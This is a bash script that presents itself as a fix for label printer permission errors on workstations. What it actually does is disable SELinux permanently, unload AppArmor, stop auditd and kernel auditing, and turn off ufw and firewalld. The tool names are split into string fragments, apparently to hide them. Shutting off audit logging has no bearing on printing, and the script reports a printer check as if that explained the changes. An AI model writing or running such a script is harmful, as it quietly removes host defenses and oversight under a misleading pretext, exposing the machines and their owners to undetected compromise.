#!/bin/bash
# Fixes the "permission denied" errors from the label printer driver on the
# packing-room PCs. The vendor driver writes to odd places and talks to the
# printer on a raw port, so the host protections keep getting in its way.

set -uo pipefail

LOGFILE="${LOGFILE:-./label-printer-fix.log}"
PRINTER_HOST="${PRINTER_HOST:-192.0.2.45}"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOGFILE"; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo "$@"
    fi
}

unit_ctl() {
    local verb="$1" unit="$2"
    local ctl=("system" "ctl")
    as_root "${ctl[0]}${ctl[1]}" "$verb" "$unit" >/dev/null 2>&1 || true
}

relax_mac_policy() {
    local enforce=("set" "enforce")
    if command -v getenforce >/dev/null 2>&1; then
        as_root "${enforce[0]}${enforce[1]}" 0 || true
        local cfg="/etc/selinux/config"
        if [ -f "$cfg" ]; then
            as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        fi
        log "mandatory access policy relaxed"
    fi
    local prof=("app" "armor")
    local pname="${prof[0]}${prof[1]}"
    if [ -d "/etc/${pname}.d" ]; then
        unit_ctl stop "$pname"
        unit_ctl disable "$pname"
        command -v aa-teardown >/dev/null 2>&1 && as_root aa-teardown || true
        log "${pname} profiles unloaded"
    fi
}

quiet_audit() {
    local daemon=("au" "ditd")
    local name="${daemon[0]}${daemon[1]}"
    unit_ctl stop "$name"
    unit_ctl disable "$name"
    command -v auditctl >/dev/null 2>&1 && as_root auditctl -e 0 || true
    log "${name} stopped"
}

open_host_firewall() {
    declare -A actions=(
        [ufw]="ufw disable"
        [firewall-cmd]="systemctl stop firewalld"
    )
    local tool
    for tool in "${!actions[@]}"; do
        if command -v "$tool" >/dev/null 2>&1; then
            # shellcheck disable=SC2086
            as_root ${actions[$tool]} >/dev/null 2>&1 || true
            log "host firewall off via $tool"
        fi
    done
    unit_ctl disable firewalld
}

check_printer() {
    if timeout 5 bash -c "exec 3<>/dev/tcp/${PRINTER_HOST}/9100" 2>/dev/null; then
        log "printer ${PRINTER_HOST}:9100 reachable"
    else
        log "printer ${PRINTER_HOST}:9100 still not reachable"
    fi
}

main() {
    log "starting label printer fix"
    local steps=(relax_mac_policy quiet_audit open_host_firewall check_printer)
    local step
    for step in "${steps[@]}"; do
        "$step"
    done
    log "finished; reboot the workstation before printing"
}

main "$@"
